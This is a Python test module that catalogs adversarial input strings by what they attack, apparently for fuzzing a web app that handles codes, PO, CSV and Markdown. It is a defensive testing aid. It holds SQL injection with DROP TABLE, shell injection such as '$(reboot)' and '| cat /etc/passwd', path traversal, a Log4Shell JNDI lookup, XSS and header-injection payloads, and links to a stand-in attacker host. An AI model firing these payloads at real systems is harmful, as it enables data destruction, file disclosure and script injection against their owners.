"""Texts that break programs, by what they attack. Written for this catalog: codes, languages, Markdown, PO and CSV."""

from __future__ import annotations

STRINGS: dict[str, tuple[str, ...]] = {
    "nothing": ("", " ", "\t", "\n", "\u00a0", "\u3000"),
    "nul": ("\0", "1007\0", "\0fr", "a\0b"),
    "controls": ("\x01", "\x1b[2J", "\x1b]0;title\x07", "\x7f", "\x08\x08\x08\x08", "\x0b", "\x0c", "\x85", "\x9b31m"),
    "line ends": ("a\r\nSet-Cookie: b=c", "a\nb", "a\rb", "a\u2028b", "a\u2029b", "%0d%0aLocation: //evil.example"),
    "surrogates": ("\ud800", "\udfff", "a\udc00b", "\udbff\ud83d"),
    "bidi": ("\u202e7001", "\u2066a\u2069", "a\u202ab\u202c", "\u200f1007\u200f", "\u061c1007"),
    "unseen": ("10\u200b07", "1007\u200d", "\ufeff1007", "\u00ad1007", "\U000e0031\U000e0032", "\u2060"),
    "combining": ("e\u0301", "\u0301", "Z" + "\u0335\u0322\u0353\u0312" * 30, "\u0e01\u0e33\u0e49"),
    "emoji": (
        "\U0001f4b3",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467",
        "\U0001f1e8\U0001f1f3",
        "1\ufe0f\u20e3",
        "\U0001f44d\U0001f3ff",
    ),
    "digits": ("\u0661\u0660\u0660\u0667", "\uff11\uff10\uff10\uff17", "\u0967\u0966\u0966\u096d", "1\u00b2", "\u2460"),
    "lookalikes": (
        "\u0430\u0440\u0440\u04cf\u0435",
        "zh\u2010hans",
        "zh\u2011hans",
        "zh\u2013hans",
        "I\u0307",
        "\u0131",
        "\u017f",
    ),
    "normal forms": ("\u212b", "\u00c5", "A\u030a", "\ufb01", "\u1e9e", "stra\u00dfe", "STRASSE", "\u2126", "\ufdfa"),
    "numbers": (
        "0",
        "-1",
        "+1007",
        "01007",
        "1007.0",
        "1e3",
        "0x3ef",
        "1_007",
        "NaN",
        "Infinity",
        "9" * 5000,
        "99999999999999999999",
        "2147483648",
    ),
    "words of programs": ("null", "None", "undefined", "true", "__proto__", "constructor", "NIL", "nan", "NUL", "CON"),
    "formats": (
        "%s%s%s%n",
        "%(code)s",
        "{0}",
        "{code.__class__}",
        "{0:>900000000}",
        "${jndi:ldap://evil.example/a}",
        "%",
    ),
    "templates": ("{{ 7|add:7 }}", "{% debug %}", "{% load pts_errors %}", "{# a #}", "${7*7}", "#{7*7}", "<%= 7*7 %>"),
    "sql": (
        "' OR 1=1 --",
        "1007'; DROP TABLE pts_errors_head; --",
        '" OR ""="',
        "1007) OR (1=1",
        "\\",
        "%",
        "_",
        "a%%b",
    ),
    "orm": ("owner__password__startswith", "error__code", "pk", "?", "-pk", "__class__", "id__in", "version__gte=0"),
    "shell": ("$(reboot)", "`reboot`", "; reboot", "| cat /etc/passwd", "&& true", "--help", "-rf"),
    "paths": (
        "../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "file:///etc/passwd",
        "....//....//",
        ".",
        "..",
        "%2e%2e%2f",
        "C:\\",
        "\\\\evil.example\\share",
    ),
    "formulas": ("=1+1", "+1+1", "-1+1", "@SUM(1)", '=HYPERLINK("http://evil.example")', "\t=1+1", "'=1", "\uff1d1+1"),
    "csv": ('"', '""', 'a,"b', ",,,", ";", 'a"b,c\nd'),
    "po": ('"\nmsgid "x"', "\\", "\\n", "#, fuzzy", "#~ obsolete", 'msgctxt "1007.title"', "Content-Type: text/plain"),
    "xml": (
        "&lt;script&gt;",
        "&#0;",
        "&#x110000;",
        '<!DOCTYPE a [<!ENTITY b "c">]>',
        "<![CDATA[a]]>",
        "]]>",
        "<?xml version='1.0'?>",
    ),
    "json": ('"}', '{"a":', "[" * 20_000, '\\"', "\\u0000", "\\ud800", '{"__proto__":{}}', "1" * 5000, "1e999"),
    "html": (
        "<script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "'\"><img src=x onerror=alert(1)>",
        "</textarea><svg onload=alert(1)>",
        "</title></style></noscript><iframe srcdoc='<script>alert(1)</script>'>",
        "--><script>alert(1)</script><!--",
        '<a href="javascript:alert(1)">a</a>',
        "<math><a xlink:href=javascript:alert(1)>a",
        '" autofocus onfocus=alert(1) x="',
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content=0;//evil.example>",
    ),
    "links": (
        "javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "jav&#x09;ascript:alert(1)",
        "&#106;avascript:alert(1)",
        "\x01javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:a",
        "//evil.example",
        "/\\evil.example",
        "https:evil.example",
        "[a](javascript:alert(1))",
        "![a](//evil.example/p.png)",
        "[a]: javascript:alert(1)",
    ),
    "patterns": ("(a+)+$", "a" * 5000, "(" * 500, "[", "*", "?" * 500, "\\1", "(?i", "a{1,99999}"),
    "long": ("x" * 10_001, "\u0416" * 10_001, "a b " * 5_000),
}
"""By what they attack."""

EVERY: tuple[str, ...] = tuple(dict.fromkeys(text for texts in STRINGS.values() for text in texts))
"""Each of them once."""

MIXED: tuple[str, ...] = tuple("".join(texts) for texts in STRINGS.values())
"""All of a kind in one text, for pages that are too slow to be asked for each alone."""


def is_sendable(text: str) -> bool:
    """Return whether a browser can send the text in a form: half characters cannot be written as UTF-8."""
    return not any("\ud800" <= sign <= "\udfff" for sign in text)


def raw(text: str) -> str:
    """Return the text as a server sees it in a header: its bytes, each as a character."""
    return text.encode("utf-8", "surrogatepass").decode("latin-1")
